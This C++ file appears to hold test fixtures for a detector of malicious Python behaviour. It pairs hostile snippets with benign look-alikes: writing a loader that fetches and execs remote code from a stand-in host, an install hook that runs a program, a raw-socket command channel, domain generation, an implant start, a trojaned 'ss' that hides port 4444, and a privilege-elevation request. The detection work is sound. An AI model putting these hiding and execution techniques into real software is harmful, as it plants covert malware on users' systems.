#include "behaviour_examples.h"

namespace pyverdict::behaviour {
namespace {

constexpr Example kHiding[] = {
    {"loader-text", "",
     R"script(
open("a.py", "w").write("from urllib.request import urlopen;exec(urlopen('http://host.example.invalid/x').read())")
)script",
     "open('a.py', 'w').write('print(1)')\n"},
    {"install-hook-program", "",
     R"(
import subprocess, sys
from setuptools import setup
from setuptools.command.install import install
class Hook(install):
    def run(self):
        subprocess.call([sys.executable, "-m", "package.start"])
setup(name="package", cmdclass={"install": Hook})
)",
     R"(
import subprocess, sys
from setuptools import setup
from setuptools.command.build_ext import build_ext
class Hook(build_ext):
    def run(self):
        subprocess.call([sys.executable, "setup.py", "build"])
setup(name="package", cmdclass={"build_ext": Hook})
)"},
    {"decoded-program-dropped", "",
     R"(
import base64, subprocess
with open("helper.bin", "wb") as out:
    out.write(base64.b64decode("f0VMRgIBAQA="))
subprocess.call(["./helper.bin", "helper.bin"])
)",
     R"(
import base64
with open("picture.png", "wb") as out:
    out.write(base64.b64decode("iVBORw0KGgo="))
)"},
    {"decrypted-code-executed", "decoded-code-executed",
     R"(
from cryptography.fernet import Fernet
exec(Fernet(key).decrypt(data))
)",
     R"(
from cryptography.fernet import Fernet
print(Fernet(key).decrypt(data))
)"},
    {"characters-built-code", "decoded-code-executed",
     "exec(''.join(chr(c) for c in [112, 114, 105, 110, 116, 40, 49, 43, 49, 43, 49, 41]))\n",
     "print(''.join(chr(ord('a') + i) for i in range(26)))\n"},
    {"image-payload", "",
     R"(
from PIL import Image
picture = Image.open("a.png")
bits = "".join(str(picture.getpixel((x, 0))[0] & 1) for x in range(800))
exec(read(bits))
)",
     R"(
from PIL import Image
print(Image.open("a.png").getpixel((0, 0)))
)"},
    {"invisible-characters", "",
     "a = '\u200b\u200c\u200b\u200c\u200b\u200c\u200b\u200c\u200b\u200c\u200b\u200c\u200b\u200c'\n",
     "a = 'caf\u00e9 \U0001f600'\n"},
    {"bidirectional-text", "", "allowed = False  # \u202e \u2066 if admin \u2069\n",
     "name = '\u0645\u062b\u0627\u0644\u200f'  # \u05d3\u05d5\u05d2\u05de\u05d4\n"},
    {"raw-socket-channel", "remote-commands",
     R"(
import os, socket
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
os.popen(s.recv(1024).decode())
)",
     R"(
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
s.sendto(packet, ("192.0.2.7", 0))
)"},
    {"generated-domains", "dns-exfiltration",
     R"(
import datetime, hashlib, socket
for n in range(50):
    name = hashlib.md5(str(datetime.date.today()).encode() + bytes([n])).hexdigest()[:12]
    socket.gethostbyname(name + ".com")
)",
     R"(
import hashlib, socket
print(hashlib.md5(b"a").hexdigest(), socket.gethostbyname("host.example.invalid"))
)"},
    {"implant-framework", "", "import pupy\npupy.start()\n",
     "report = 'It dropped meterpreter.'\nprint(report)\n"},
    {"tool-output-filtered", "",
     R"(
with open("/usr/local/sbin/ss", "w") as out:
    out.write("#!/bin/sh\n/bin/ss.orig $* | grep -v 4444\n")
)",
     "import os\nos.system('ps aux | grep -v root')\n"},
    {"errors-hidden", "", "import os, sys\nsys.stderr = open(os.devnull, 'w')\n",
     "import io, sys\nsys.stdout = io.StringIO()\n"},
    {"run-once", "", "import win32event\nwin32event.CreateMutex(None, 1, 'name')\n",
     "import threading\nthreading.Lock().acquire()\n"},
    {"long-sleep", "", "import os, time\ntime.sleep(900)\nos.system('make')\n",
     "import time\ntime.sleep(1)\n"},
    {"activity-check", "", "import ctypes\nctypes.windll.user32.GetLastInputInfo(ctypes.byref(info))\n",
     "import time\nprint(time.monotonic())\n"},
    {"administrator-request", "",
     "import ctypes, sys\nctypes.windll.shell32.ShellExecuteW(None, 'runas', sys.executable, '', None, 1)\n",
     "import ctypes\nctypes.windll.shell32.ShellExecuteW(None, 'open', 'a.txt', '', None, 1)\n"},
};

}  // namespace

std::span<const Example> hiding_examples() { return kHiding; }

}  // namespace pyverdict::behaviour
